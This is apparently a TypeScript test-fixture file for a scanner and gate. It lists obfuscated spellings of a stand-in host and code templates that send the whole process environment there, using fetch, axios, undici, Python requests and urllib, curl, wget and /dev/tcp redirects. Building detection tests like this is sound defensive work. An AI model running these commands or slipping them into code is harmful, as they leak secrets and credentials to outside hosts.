/**
 * Every spelling of an address that a runtime reads, and every call that sends the environment there: material for the tests of the
 * scanner and of the gate.
 */

const NAME = 'c.other-metrics.com';
const STARTS = [
  ['https://', 'http://', 'https:/', 'https:', 'https:///', 'https:////', 'HtTPs://'],
  ['https:\\\\', 'https:/\\', 'https:\\/', 'https:\\', ' https://', '\t\u0001https://'],
  ['ht\ntps://', 'https:\r//', 'https://\t', 'https://user@', 'https://user:word@'],
  ['https://github.com@', 'https://registry.npmjs.org:443@', 'https://github.com%2F@'],
  ['https://a@b@', 'https://@', 'https://:@', 'https://127.0.0.1@', 'https://localhost:80@'],
].flat();
const ENDS = [
  ['', '/', ':/x', ':443/x', ':00443/x', './x', '?x', '#x', '\\x', '\\@github.com/x', '\u0001'],
  ['/@github.com/x', '/x \n', '/\t\r\n'],
].flat();
const HOSTS = [
  ['c\u3002other-metrics\u3002com', 'c\uff0eother-metrics.com', 'c\uff61other-metrics.com'],
  ['%63.other-metrics.com', 'c%2eother-metrics%2Ecom', 'C.OTHER-Metrics.Com'],
  ['\uff43.other-metrics.com', '\u24d2.other-metrics.com', '\u{1d41c}.other-metrics.com'],
  ['c.oth\u00ader-metrics.com', 'c.oth\u200ber-metrics.com', 'c.oth\ter-metrics\n.com'],
  ['10.other-metrics.com', 'fdn-metrics.com', 'fc00.other-metrics.com', '127.0.0.1.nip.io'],
  ['localhost.other-metrics.com', '192.168.0.1.other-metrics.com', 'fe80-metrics.com'],
  ['45.9.148.3', '0x2d.9.148.3', '0x2D099403', '755602435', '055.011.0224.03', '45.9.37891'],
  ['45.627715', '%34%35.9.148.3', '\uff14\uff15.9.148.3', '45\u30029.148.3', '45.9.148.3.'],
  ['[2001:470::1]', '[2001:0470:0:0:0:0:0:1]', '[::ffff:45.9.148.3]', '[2600::1]:8080'],
  ['$a.other-metrics.com', 'a_b.other-metrics.com', '{a}.other-metrics.com'],
].flat();
export const SPELLINGS = [
  ...STARTS.map((start) => `${start}${NAME}/x`),
  ...ENDS.map((end) => `https://${NAME}${end}`),
  ...HOSTS.map((host) => `https://${host}/x`),
];

const BODY = "{ method: 'POST', body: JSON.stringify(process.env) }";
const ENVIRONMENT = 'import os, requests, urllib.request as r\n';
/** A file that sends the environment; the argument is a literal of its language. */
export const SENDERS: Readonly<Record<string, readonly [string, (literal: string) => string]>> = {
  fetch: ['a.ts', (to) => `void fetch(${to}, ${BODY});`],
  'fetch of a URL': ['a.ts', (to) => `void fetch(new URL(${to}, 'https://github.com'), ${BODY});`],
  'fetch of a Request': ['a.ts', (to) => `void fetch(new Request(${to}, ${BODY}));`],
  'http.request': [
    'a.cjs',
    (to) => `require('https').request(${to}, { method: 'POST' }).end(JSON.stringify(process.env));`,
  ],
  'undici.request': ['a.cjs', (to) => `require('undici').request(${to}, ${BODY});`],
  'undici.request with an origin': [
    'a.cjs',
    (to) => `require('undici').request({ origin: ${to}, path: '/x', ...${BODY} });`,
  ],
  'axios.post': ['a.cjs', (to) => `require('axios').post(${to}, process.env);`],
  axios: [
    'a.cjs',
    (to) => `require('axios')({ url: ${to}, method: 'post', data: { ...process.env } });`,
  ],
  'axios with a base': [
    'a.cjs',
    (to) => `require('axios').create({ baseURL: ${to} }).post('/y', process.env);`,
  ],
  'requests.post': ['a.py', (to) => `${ENVIRONMENT}requests.post(${to}, json=dict(os.environ))`],
  urlopen: ['a.py', (to) => `${ENVIRONMENT}r.urlopen(${to}, data=str(os.environ).encode())`],
  Request: [
    'a.py',
    (to) => `${ENVIRONMENT}r.urlopen(r.Request(${to}, data=str(os.environ).encode()))`,
  ],
};

/** Lines of shell that send it, with `TO` for the address. */
export const SENDING_LINES = [
  `curl -d "$(env)" 'TO'`,
  `env | curl -d @- --url='TO'`,
  `wget --post-data="$(env)" 'TO'`,
];

/** The same with `TO` for the host. */
export const SENDING_REDIRECTS = [
  'env > /dev/tcp/TO/443',
  'printenv >/dev/tcp/TO/443',
  'cat <(env) > /dev/tcp/TO/443',
];

/** The host that a runtime reads in a spelling. */
export function hostOf(text: string): string {
  return new URL(text).hostname.replace(/\.$/, '');
}
